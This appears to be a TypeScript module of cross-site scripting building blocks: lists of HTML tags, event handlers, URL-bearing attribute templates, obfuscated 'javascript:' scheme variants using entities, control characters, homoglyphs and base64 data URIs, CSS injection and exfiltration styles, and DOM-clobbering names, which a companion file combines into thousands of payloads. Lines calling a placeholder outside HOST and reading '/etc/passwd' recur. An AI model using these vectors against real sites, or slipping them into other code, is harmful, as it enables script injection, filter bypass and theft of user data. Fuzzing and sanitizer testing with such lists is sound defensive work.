/**
 * What has run in somebody's browser before: vectors by kind, as lists from which payloads.ts makes its thousands. RUN stands for
 * the script, HOST for another host, S for a scheme that runs.
 */

export const tags = (
  'img svg math body input select textarea button a div p span form video audio source track details marquee iframe object ' +
  'embed table td keygen frameset style link meta base script dialog meter isindex bgsound image xss main article label slot'
).split(' ')

export const handlers = (
  'onload onerror onclick onmouseover onmouseenter onfocus onfocusin onblur onbegin onend onrepeat ontoggle onbeforetoggle onstart ' +
  'onfinish onbounce onpageshow onpagehide onhashchange onpopstate onresize onscroll onscrollend onwheel onanimationstart ' +
  'onanimationend onanimationiteration ontransitionend ontransitionrun onpointerover onpointerenter onpointerdown onpointerrawupdate ' +
  'onauxclick oncontextmenu ondblclick ondrag ondragstart ondrop onkeydown onkeyup oncopy onpaste oncut onbeforeinput oninput ' +
  'onchange oninvalid onsubmit onreset onselect onselectstart onsearch oncanplay onplay onloadstart onloadeddata onprogress ' +
  'ontimeupdate onvolumechange oncuechange onmessage onstorage onoffline onunload onbeforeunload onbeforeprint onafterprint ' +
  'onsecuritypolicyviolation onslotchange onformdata oncancel onclose oncontentvisibilityautostatechange onwebkitanimationstart ' +
  'onreadystatechange onpropertychange onactivate onmouseleave ontouchstart ongotpointercapture onfullscreenchange onrejectionhandled'
).split(' ')

/** Where an address stands. U is the address. */
export const addressed = [
  '<a href="U">x</a>',
  "<a href='U'>x</a>",
  '<a href=U>x</a>',
  '<a xlink:href="U">x</a>',
  '<a href="https://fine.example" ping="U">x</a>',
  '<area shape=default href="U"><map name=m><area href="U"></map>',
  '<form action="U"><button>x</button></form>',
  '<button formaction="U">x</button>',
  '<input type=image src="U" formaction="U">',
  '<isindex action="U" type=image>',
  '<iframe src="U"></iframe>',
  '<frameset><frame src="U"></frameset>',
  '<object data="U"></object>',
  '<object><param name=movie value="U"></object>',
  '<embed src="U">',
  '<applet codebase="U" code=x></applet>',
  '<img src="U">',
  '<img src=U>',
  '<img src="x" srcset="U 1x, U 2x">',
  '<img lowsrc="U" dynsrc="U" longdesc="U">',
  '<picture><source srcset="U"><img alt=x></picture>',
  '<video poster="U" src="U"><source src="U"><track src="U"></video>',
  '<audio src="U"></audio>',
  '<body background="U">',
  '<table background="U"><tr><td background="U">x</td></tr></table>',
  '<svg><a xlink:href="U"><text y=20>x</text></a></svg>',
  '<svg><use href="U#x" xlink:href="U#x"></use><image href="U"/><feImage xlink:href="U"/></svg>',
  '<svg><a><animate attributeName=href values="U"/><text y=20>x</text></a></svg>',
  '<svg><a><set attributeName=href to="U"/><text y=20>x</text></a></svg>',
  '<svg><script href="U" xlink:href="U"></script></svg>',
  '<math><mi href="U" xlink:href="U">x</mi></math>',
  '<math><maction actiontype="statusline#U" xlink:href="U">x</maction></math>',
  '<base href="U"><a href="/x">x</a>',
  '<link rel=stylesheet href="U"><link rel=import href="U"><link rel="prefetch preload dns-prefetch" as=script href="U">',
  '<meta http-equiv=refresh content="0;url=U">',
  '<meta http-equiv="Refresh" content="0; url=\'U\'">',
  '<script src="U"></script>',
  '<blockquote cite="U">x</blockquote><q cite="U">y</q><del cite="U">z</del>',
  '<html manifest="U"><head profile="U">',
  '<div style="background:url(U)">x</div>',
  '<div style="background-image:url(\'U\');list-style:url(U)">x</div>',
  '<style>@import "U";*{background:url(U)}</style>',
  '<bgsound src="U"><layer src="U"></layer><ilayer src="U">',
  '<xml src="U" id=x><?xml-stylesheet href="U"?>',
  '<img usemap="#m" src="U"><command icon="U"><portal src="U"></portal>',
]

/** What an address may begin with, and how it hides. */
export const schemes = [
  'javascript:RUN',
  'JaVaScRiPt:RUN',
  'java\tscript:RUN',
  'java\nscript:RUN',
  'java\r\nscript:RUN',
  'java\0script:RUN',
  '\u0001javascript:RUN',
  '\u001fjavascript:RUN',
  ' \u00a0javascript:RUN',
  '\u2028javascript:RUN',
  '\ufeffjavascript:RUN',
  'javascript\u200b:RUN',
  'javascript&colon;RUN',
  'java&Tab;script:RUN',
  'java&NewLine;script:RUN',
  '&#106;avascript:RUN',
  '&#x6A;&#x61;vascript:RUN',
  '&#0000106&#0000097vascript:RUN',
  '&#x6A&#x61&#x76&#x61script:RUN',
  '&amp;#106;avascript:RUN',
  'java%0ascript:RUN',
  '%6aavascript:RUN',
  'javascript://%0aRUN',
  'javascript:/*https://fine.example*/RUN',
  'https:javascript:RUN',
  'feed:javascript:RUN',
  'view-source:javascript:RUN',
  'vbscript:RUN',
  'livescript:RUN',
  'mocha:RUN',
  'data:text/html,<script>RUN</script>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'data:image/svg+xml,<svg xmlns=http://www.w3.org/2000/svg onload=RUN></svg>',
  'data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxlcnQoMSkiPjwvc3ZnPg==',
  'data:image/png,<script>RUN</script>',
  'data:image/png;base64,AAAA" onerror="RUN',
  'data:application/xhtml+xml,<x:script xmlns:x="http://www.w3.org/1999/xhtml">RUN</x:script>',
  'data:,RUN',
  'blob:https://HOST/RUN',
  'filesystem:https://HOST/RUN',
  'file:///etc/passwd#RUN',
  'about:blank#RUN',
  'jar:https://HOST/x!/RUN',
  'ms-its:mhtml:https://HOST/RUN',
  'cid:x" onerror="RUN',
  '//HOST/x?RUN',
  '\\\\HOST\\x?RUN',
  '/\\HOST/x?RUN',
  'https:HOST/x?RUN',
  'https://HOST/x.js?RUN',
  'https://HOST@fine.example/?RUN',
  'ｊavascript:RUN',
  'javasсript:RUN',
]

export const styles = [
  'background:url(https://HOST/s)',
  'background:URL("//HOST/s")',
  'background:u\\72l(https://HOST/s)',
  'background:\\75\\72\\6c(https://HOST/s)',
  'background:url(https://HOST/s',
  'background:/**/url(/**/https://HOST/s)',
  'background:u/**/rl(https://HOST/s)',
  'background:image-set("https://HOST/s" 1x)',
  'background:-webkit-image-set(url(https://HOST/s) 1x)',
  'background:cross-fade(url(https://HOST/s),url(https://HOST/t),50%)',
  'background:#fff;background:url(https://HOST/s)',
  'list-style:url(https://HOST/s)',
  'list-style-type:url(https://HOST/s)',
  'cursor:url(https://HOST/s),auto',
  'content:url(https://HOST/s)',
  'filter:url(https://HOST/s#x)',
  'mask:url(https://HOST/s#x);clip-path:url(https://HOST/s#x)',
  'border-image:url(https://HOST/s) 1',
  'border:url(https://HOST/s)',
  'font-family:"x;background:url(https://HOST/s)"',
  "font-family:'\\\"};*{background:url(https://HOST/s)}'",
  'font:url(https://HOST/s)',
  'color:red;}@import "https://HOST/s";x{',
  '--x:url(https://HOST/s);background:var(--x)',
  'background:attr(x)',
  'width:expression(RUN)',
  'width:exp/**/ression(RUN)',
  'width:\\65xpression(RUN)',
  '-moz-binding:url(https://HOST/s#x)',
  'behavior:url(https://HOST/s)',
  'position:fixed;inset:0;z-index:99999;background:red',
  'position:absolute;top:-9999px;opacity:0',
  'animation:x 1s;transition:all 1s',
  'display:contents;content-visibility:auto',
  'margin-left:-9999px;text-indent:-9999px',
  'width:99999999px;height:99999999px',
  'background:url(javascript:RUN)',
  'background:url(data:image/svg+xml,<svg onload=RUN>)',
  'color:&quot;><X',
  'x:\\',
]

/** Names a page looks up by name. */
export const clobbered = (
  'body head documentElement location cookie forms images attributes childNodes innerHTML parentNode nodeName getElementById querySelector ' +
  'createElement implementation defaultView currentScript __proto__ constructor prototype hasOwnProperty root app page main self top parent ' +
  'name history navigator localStorage sessionStorage fetch __pond __TSR_ROUTER__ alert onerror textContent length id action submit reset'
).split(' ')
